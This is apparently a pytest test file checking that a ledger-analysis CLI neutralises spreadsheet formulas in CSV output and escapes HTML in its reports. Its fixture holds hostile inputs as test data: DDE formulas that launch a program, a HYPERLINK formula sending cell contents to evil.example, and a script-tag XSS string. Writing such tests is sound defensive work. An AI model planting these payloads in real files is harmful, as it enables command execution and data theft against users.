"""Hostile values on the way out: every CSV the CLI writes neutralises formulas, exports stay valid
files that hold the values as data, and the HTML report escapes them.

Ledger values that a spreadsheet would run (``=cmd|' /C calc'!A0``, ``+…``, ``-…``, ``@…``) are
loaded as ids, names and titles on both stores; then every output path is read back. The CLI has
no XLSX output (only XLSX input), so CSV is the spreadsheet-facing format to check. The load runs
``tiaokuai`` as a process; the outputs are read through click in process (the same code, faster).
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from relhelp import FORMULA_START, GOOD, assert_clean_exit, cli, cli_inprocess, write_csv

FORMULAS = {
    "FX-EQ": "=cmd|' /C calc'!A0",
    "FX-PLUS": "+SUM(1+1)*cmd|' /C calc'!A0",
    "FX-MINUS": "-2+3+cmd|' /C calc'!A0",
    "FX-AT": "@SUM(1+1)*cmd|' /C calc'!A0",
    "FX-HYPER": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
}
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def hostile_store(location: str, tmp_path: Path) -> str:
    """The good ledgers plus county bureaus whose ids and names are formulas, links with formula
    titles, and a region whose name is a formula."""
    folder = tmp_path / "ledgers"
    folder.mkdir()
    for f in GOOD.glob("*.csv"):
        (folder / f.name).write_bytes(f.read_bytes())
    write_csv(folder / "regions_fx.csv", ["code", "name", "level", "parent_code"],
              [["230103", FORMULAS["FX-EQ"], "county", "230100"]])  # fmt: skip
    units = []
    for key, formula in FORMULAS.items():
        units.append([formula, f"{formula} {SCRIPT}", "tax_bureau", "county", "230103", "HRB", formula])
        units.append([f"{key}-LPC", formula, "local_party_committee", "county", "230103", "HRB-LPC", ""])
    write_csv(
        folder / "units_fx.csv", ["id", "name", "kind", "level", "region_code", "parent_id", "name_en"], units
    )
    links = [
        ["2020-05-01", "visit", formula, f"{key}-LPC", "1", "2", formula] for key, formula in FORMULAS.items()
    ]
    write_csv(
        folder / "links_fx.csv",
        ["date", "kind", "source_id", "target_id", "count", "participants", "title"],
        links,
    )
    result = cli("load", "-q", str(folder), store=location)
    assert result.returncode == 0, result.stderr
    return location


def _strings(data: object) -> list[str]:
    if isinstance(data, dict):
        return [s for k, v in data.items() for s in (k, *_strings(v))]
    if isinstance(data, list):
        return [s for v in data for s in _strings(v)]
    return [data] if isinstance(data, str) else []


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "command",
    [
        ["gaps", "--year", "2020", "--format", "csv"],
        ["gaps", "--year", "2020", "--format", "csv", "--region", "230103"],
        ["coverage", "--year", "2020", "--format", "csv"],
        ["coverage", "--year", "2020", "--format", "csv", "--level", "county"],
        ["stats", "--year", "2020", "--format", "csv"],
    ],
    ids=lambda c: "-".join(c[:1] + c[4:]),
)
def test_csv_outputs_never_carry_a_formula(hostile_store: str, command: list[str]) -> None:
    result = cli_inprocess(*command, store=hostile_store)
    assert_clean_exit(result, allowed=(0,))
    cells = _cells(result.stdout)
    assert cells, result.stdout
    live = [c for c in cells if c.startswith(FORMULA_START)]
    assert not live, f"cells a spreadsheet would run: {live}"
    if command[0] != "stats":
        quoted = [c for c in cells if c.startswith("'") and c[1:] in FORMULAS.values()]
        assert quoted, "the formula values should be in the output, quoted"


def test_exports_hold_values_as_data(hostile_store: str, tmp_path: Path) -> None:
    for fmt in ("graphml", "gexf", "json"):
        out = tmp_path / f"g.{fmt}"
        result = cli_inprocess("export", "--format", fmt, "--out", str(out), store=hostile_store)
        assert_clean_exit(result, allowed=(0,))
        text = out.read_text(encoding="utf-8")
        if fmt == "json":
            values = " ".join(_strings(json.loads(text)))
        else:
            root = ET.fromstring(text)  # well-formed XML, whatever the names held
            values = " ".join(v for el in root.iter() for v in [el.text or "", *el.attrib.values()])
        for formula in FORMULAS.values():
            assert formula in values, (fmt, formula)
        assert SCRIPT not in text or fmt == "json" or "&lt;script&gt;" in text


def test_json_outputs_are_valid(hostile_store: str) -> None:
    for command in (["gaps", "--year", "2020"], ["coverage", "--year", "2020"], ["stats", "--year", "2020"],
                    ["analyse", "--year", "2020"]):  # fmt: skip
        result = cli_inprocess(*command, "--format", "json", store=hostile_store)
        assert_clean_exit(result, allowed=(0,))
        json.loads(result.stdout)


def test_html_report_escapes_values(hostile_store: str, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = cli_inprocess("report", "--year", "2020", "--out", str(out), store=hostile_store)
    assert_clean_exit(result, allowed=(0,))
    html = out.read_text(encoding="utf-8")
    assert SCRIPT not in html
    assert "alert(1)" not in html or "&lt;script&gt;alert(1)" in html


def test_table_output_survives_hostile_values(hostile_store: str) -> None:
    for command in (
        ["gaps", "--year", "2020"],
        ["coverage", "--year", "2020"],
        ["analyse", "--year", "2020"],
    ):
        assert_clean_exit(cli_inprocess(*command, store=hostile_store), allowed=(0,))
